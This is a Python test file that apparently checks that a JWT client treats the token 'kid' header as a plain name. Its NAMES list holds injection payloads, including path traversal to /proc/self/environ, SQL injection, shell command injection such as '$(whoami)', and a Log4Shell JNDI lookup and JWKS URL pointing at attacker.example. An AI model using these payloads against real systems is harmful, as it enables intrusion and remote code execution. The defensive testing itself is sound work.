"""A `kid` that would be a path, a query or a command somewhere: here it is a name."""

from collections.abc import Callable

from attacks.forging import Forgery, Recipe, with_header

from ephemera_client import HeaderRefused, KeyUnknown

NAMES = [
    *("../../../../dev/null", "/dev/null", "..\\..\\nul", "file:///dev/null", "/proc/self/environ"),
    *("x' UNION SELECT 'secret' --", "' OR '1'='1", '" OR ""="', "1; DROP TABLE keys"),
    *("| whoami", "$(whoami)", "`whoami`", "; ls", "${jndi:ldap://attacker.example/a}", "{{7*7}}"),
    *("https://attacker.example/jwks.json", "*", "?", "%", "..", ".", " ", "\u0000", "\r\nX: y"),
    *("constructor", "__proto__", "__class__", "__init__", "keys", "0", "null", "None", "true"),
    *("%00", "\U0001f511", "\u202eyek", "k" * 256),
]
NO_NAMES = [..., None, "", 0, 1, True, False, 1.5, [], {}, ["k"], {"kid": "k"}, "k" * 257]

RESPELLED: dict[str, Callable[[str], str]] = {
    "letters swapped": str.swapcase,
    "with a space behind": lambda kid: kid + " ",
    "with a zero byte behind": lambda kid: kid + "\u0000",
    "without its last letter": lambda kid: kid[:-1],
    "padded": lambda kid: kid + "=",
}


def _respelled(spell: Callable[[str], str]) -> Recipe:
    return lambda forge: forge.token(header={"kid": spell(forge.key.kid)})


FORGERIES = [
    *(Forgery(f"named {kid!a}", KeyUnknown, with_header(kid=kid)) for kid in NAMES),
    *(Forgery(f"kid {kid!r}"[:40], HeaderRefused, with_header(kid=kid)) for kid in NO_NAMES),
    *(Forgery(name, KeyUnknown, _respelled(spell)) for name, spell in RESPELLED.items()),
]
